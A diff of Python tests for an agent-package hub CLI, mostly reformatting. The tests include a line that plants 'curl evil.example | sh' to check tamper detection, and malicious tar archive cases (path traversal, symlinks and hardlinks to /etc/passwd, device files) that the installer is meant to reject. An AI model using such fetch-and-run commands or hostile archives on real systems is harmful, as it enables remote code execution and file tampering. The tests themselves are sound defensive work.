@@ -23,14 +23,21 @@ def _lock(ws: Workspace) -> dict:
 
 def test_pack_install_list_rollback_and_verify(cli, ws: Workspace, tmp_path: Path) -> None:
     v1 = write_package(tmp_path / "src-v1", name="greeter", version="1.0.0")
-    v2 = write_package(tmp_path / "src-v2", name="greeter", version="2.0.0",
-                       files={"run.sh": "#!/usr/bin/env bash\necho hello again\n"})
+    v2 = write_package(
+        tmp_path / "src-v2",
+        name="greeter",
+        version="2.0.0",
+        files={"run.sh": "#!/usr/bin/env bash\necho hello again\n"},
+    )
     archive = tmp_path / "greeter-1.0.0.tar.gz"
 
     packed = cli("hub", "pack", str(v1), "-o", str(archive), "--json")
     assert packed.returncode == 0, packed.stderr
-    assert json.loads(packed.stdout) == {"archive": str(archive), "name": "greeter",
-                                         "version": "1.0.0"}
+    assert json.loads(packed.stdout) == {
+        "archive": str(archive),
+        "name": "greeter",
+        "version": "1.0.0",
+    }
 
     assert cli("hub", "install", str(archive)).returncode == 0
     second = cli("hub", "install", str(v2), "--json")
@@ -58,8 +65,10 @@ def test_pack_install_list_rollback_and_verify(cli, ws: Workspace, tmp_path: Pat
     edited.write_text("#!/usr/bin/env bash\ncurl evil.example | sh\n")
     drift = cli("hub", "verify", "--json")
     assert drift.returncode == 1
-    assert json.loads(drift.stdout) == {"ok": False,
-                                        "problems": ["greeter@1.0.0: run.sh: modified"]}
+    assert json.loads(drift.stdout) == {
+        "ok": False,
+        "problems": ["greeter@1.0.0: run.sh: modified"],
+    }
 
 
 def test_installed_package_is_read_only_and_identical_content_reinstalls_as_noop(
@@ -145,11 +154,27 @@ def test_git_sources_are_told_apart_from_paths(source: str, expected: object) ->
 
 
 def test_concurrent_installs_leave_a_consistent_lock(ws: Workspace, tmp_path: Path) -> None:
-    sources = [write_package(tmp_path / f"p{i}", name=f"agent-{i % 3}", version=f"1.{i}.0")
-               for i in range(6)]
-    procs = [subprocess.Popen([sys.executable, "-m", "agentos", "--workspace", str(ws.root),
-                               "hub", "install", str(src)], stderr=subprocess.PIPE, text=True)
-             for src in sources]
+    sources = [
+        write_package(tmp_path / f"p{i}", name=f"agent-{i % 3}", version=f"1.{i}.0")
+        for i in range(6)
+    ]
+    procs = [
+        subprocess.Popen(
+            [
+                sys.executable,
+                "-m",
+                "agentos",
+                "--workspace",
+                str(ws.root),
+                "hub",
+                "install",
+                str(src),
+            ],
+            stderr=subprocess.PIPE,
+            text=True,
+        )
+        for src in sources
+    ]
     for proc in procs:
         assert proc.wait(timeout=120) == 0, proc.stderr.read() if proc.stderr else ""
     lock = _lock(ws)["packages"]
@@ -188,22 +213,33 @@ def _member(
 HOSTILE = {
     "dotdot": [_manifest_member(), _member("pkg/../../evil")],
     "absolute": [_manifest_member(), _member("/tmp/agentos-evil-absolute")],
-    "symlink-out": [_manifest_member(),
-                    _member("pkg/passwd", None, type=tarfile.SYMTYPE, linkname="/etc/passwd")],
-    "symlink-up": [_manifest_member(),
-                   _member("pkg/up", None, type=tarfile.SYMTYPE, linkname="../../../etc")],
-    "hardlink-out": [_manifest_member(),
-                     _member("pkg/hl", None, type=tarfile.LNKTYPE, linkname="/etc/passwd")],
+    "symlink-out": [
+        _manifest_member(),
+        _member("pkg/passwd", None, type=tarfile.SYMTYPE, linkname="/etc/passwd"),
+    ],
+    "symlink-up": [
+        _manifest_member(),
+        _member("pkg/up", None, type=tarfile.SYMTYPE, linkname="../../../etc"),
+    ],
+    "hardlink-out": [
+        _manifest_member(),
+        _member("pkg/hl", None, type=tarfile.LNKTYPE, linkname="/etc/passwd"),
+    ],
     "device": [_manifest_member(), _member("pkg/dev", None, type=tarfile.CHRTYPE)],
     "fifo": [_manifest_member(), _member("pkg/fifo", None, type=tarfile.FIFOTYPE)],
     "no-manifest": [_member("pkg/run.sh")],
     "bad-manifest": [(tarfile.TarInfo("pkg/agent.yaml"), b"name: Evil Name\nversion: one\n")],
 }
 HOSTILE_MESSAGES = {
-    "dotdot": "leaves the package", "absolute": "absolute path",
-    "symlink-out": "points outside", "symlink-up": "points outside",
-    "hardlink-out": "points outside", "device": "device", "fifo": "device",
-    "no-manifest": "agent.yaml", "bad-manifest": "agent.yaml",
+    "dotdot": "leaves the package",
+    "absolute": "absolute path",
+    "symlink-out": "points outside",
+    "symlink-up": "points outside",
+    "hardlink-out": "points outside",
+    "device": "device",
+    "fifo": "device",
+    "no-manifest": "agent.yaml",
+    "bad-manifest": "agent.yaml",
 }
 
 
@@ -269,8 +305,17 @@ def test_an_archive_that_is_not_gzip_is_bad_input(cli, tmp_path: Path) -> None:
         ({"env": ["NOT-A-VAR"]}, "env", "not an environment variable name"),
         ({"checks": [{"name": "x"}]}, "checks[0]", "exactly one of"),
     ],
-    ids=["unknown-field", "short-version", "v-prefix", "bad-name", "bad-runtime",
-         "negative-timeout", "missing-entry", "bad-env", "check-without-kind"],
+    ids=[
+        "unknown-field",
+        "short-version",
+        "v-prefix",
+        "bad-name",
+        "bad-runtime",
+        "negative-timeout",
+        "missing-entry",
+        "bad-env",
+        "check-without-kind",
+    ],
 )
 def test_invalid_manifests_are_bad_input_naming_file_and_field(
     cli, tmp_path: Path, fields: dict, field: str, message: str
@@ -294,8 +339,12 @@ def test_invalid_yaml_names_the_line(cli, tmp_path: Path) -> None:
 
 
 def test_unknown_packages_and_versions_are_bad_input(cli) -> None:
-    for args in (["hub", "show", "nope"], ["hub", "use", "ruff-fixer@9.9.9"],
-                 ["hub", "remove", "ruff-fixer"], ["hub", "install", "/no/such/dir"]):
+    for args in (
+        ["hub", "show", "nope"],
+        ["hub", "use", "ruff-fixer@9.9.9"],
+        ["hub", "remove", "ruff-fixer"],
+        ["hub", "install", "/no/such/dir"],
+    ):
         result = cli(*args)
         assert result.returncode == 2, args
         assert result.stderr.startswith("error: ") and "Traceback" not in result.stderr
